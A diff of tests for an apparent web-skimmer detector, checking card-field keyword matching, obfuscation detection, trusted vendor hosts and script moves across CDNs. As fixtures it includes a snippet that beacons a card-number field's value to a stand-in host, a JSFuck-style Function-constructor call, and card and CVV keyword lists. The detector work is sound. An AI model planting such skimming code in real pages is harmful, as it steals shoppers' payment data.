@@ -28,6 +28,11 @@ describe('card and credential words', () => {
     assert.ok(selectsPaymentField('#payment-form') && selectsPaymentField('input[type=password]'));
     assert.ok(!selectsPaymentField('.payments-list') && !selectsPaymentField('#discard-button'));
   });
+  it('mark a form field as a card field by whole words, stricter for page classification', async () => {
+    const { namesCardInput } = await import('../../src/analyzers/field-words.js');
+    for (const yes of ['card_number', 'cardNumber', 'card_exp', 'card_cvv', 'cc-csc', 'expiry', 'cvc']) assert.ok(namesCardInput(yes), yes);
+    for (const no of ['cc', 'card', 'session_expires', 'discard', 'pan_tax_id', 'giftcards']) assert.ok(!namesCardInput(no), no);
+  });
   it("count where code looks a field up, not in an SDK's list of fields it scrubs", () => {
     const scrub = codeTraits(`var scrubFields = ['cc-number', 'card number', 'cardnumber', 'cvv', 'cvc2', 'expiration date', 'password']; function scrub(o) { return o; }`);
     assert.deepEqual([...scrub.cardReads], []);
@@ -59,6 +64,11 @@ describe('run-time string building', () => {
     const ordinary = codeTraits(`var id = Math.random().toString(36).slice(2); var c = String.fromCharCode(code); var s = String.fromCharCode.apply(null, bytes); obj[key](value);`);
     assert.deepEqual([...ordinary.runtimeStrings], []);
   });
+  it('sees calls reached through array literals and the Function constructor reached through one', () => {
+    const jsfuck = codeTraits(`[]["flat"]["constructor"]("return this")()`);
+    assert.ok(jsfuck.runtimeStrings.has('calls reached through array literals ([…][…](…))'));
+    assert.ok(jsfuck.dynamicCode.has('Function (through constructor)'));
+  });
   it('rates obfuscated code that touches payment fields at run time at least high', () => {
     const code = `(function(a,n){while(--n)a.push(a.shift())})(t,3); var s=(1325353).toString(36);`;
     const quiet = skimmerTraits.run(change(code, null, { fieldAccess: [] }));
@@ -73,6 +83,13 @@ describe('trusted hosts', () => {
     const old = `window.a = 1;`;
     const found = skimmerTraits.run(change(`${old} document.getElementById('card-number').addEventListener('change', function (e) { navigator.sendBeacon('https://www.analytics.example/c', e.target.value); });`, old, { knownHosts: ['www.analytics.example'] }));
     assert.ok(found.some((f) => f.severity === 'high' || f.severity === 'critical'), JSON.stringify(found));
+  });
+  it("count a vendor's own service as its own, for a new destination", async () => {
+    const { ownService } = await import('../../src/monitor.js');
+    assert.ok(ownService('https://cdnjs.cloudflare.com/ajax/libs/rollbar.js/2.26.4/rollbar.min.js', 'api.rollbar.com'));
+    assert.ok(ownService('https://js.stripe.com/v3/', 'api.stripe.com'));
+    assert.ok(!ownService('https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js', 'jquery-cdn-stats.example'));
+    assert.ok(!ownService('https://shop.example/js/app.js', 'collect.example'));
   });
   it("treat a package's own service as familiar", () => {
     const found = skimmerTraits.run(change(`fetch('https://api.rollbar.com/api/1/item/', { method: 'POST', body: x });`, null, { url: 'https://cdnjs.cloudflare.com/ajax/libs/rollbar.js/2.26.4/rollbar.min.js' }));
@@ -107,6 +124,13 @@ describe('releases', () => {
     assert.equal(moved.alerts[0]!.oldValue, first.scripts[0]!.sha256);
     assert.equal(moved.alerts[0]!.details.replaces, oldLib.url);
     assert.equal(moved.alerts[0]!.severity, 'low', 'a new URL is not a versioned URL that changed in place');
+  });
+  it('moved to another CDN at another version are paired by the package their URLs name', () => {
+    const oldLib = script({ kind: 'external', url: 'https://cdnjs.example/ajax/libs/jquery/3.7.0/jquery.min.js', body: 'window.jq={v:"3.7.0"};' });
+    const newLib = script({ kind: 'external', url: 'https://jsdelivr.example/npm/jquery@3.7.1/dist/jquery.min.js', body: 'window.jq={v:"3.7.1"};' });
+    const baseline = approve(planScan(pageCapture([oldLib]), emptyBaseline(), { removalThreshold: 1 }));
+    const moved = planScan(pageCapture([newLib], { requests: [] }), { ...baseline, hosts: new Set([...baseline.hosts, 'jsdelivr.example']) }, { removalThreshold: 1 });
+    assert.deepEqual(moved.alerts.map((a) => [a.type, a.details.replaces]), [['script.changed', oldLib.url]]);
   });
   it('byte-identical to the published release rate at most low; a known-bad host still counts', () => {
     const findings = [{ analyzer: 't', severity: 'critical' as const, kind: 'exfiltration' as const, title: 'x', detail: '' }];
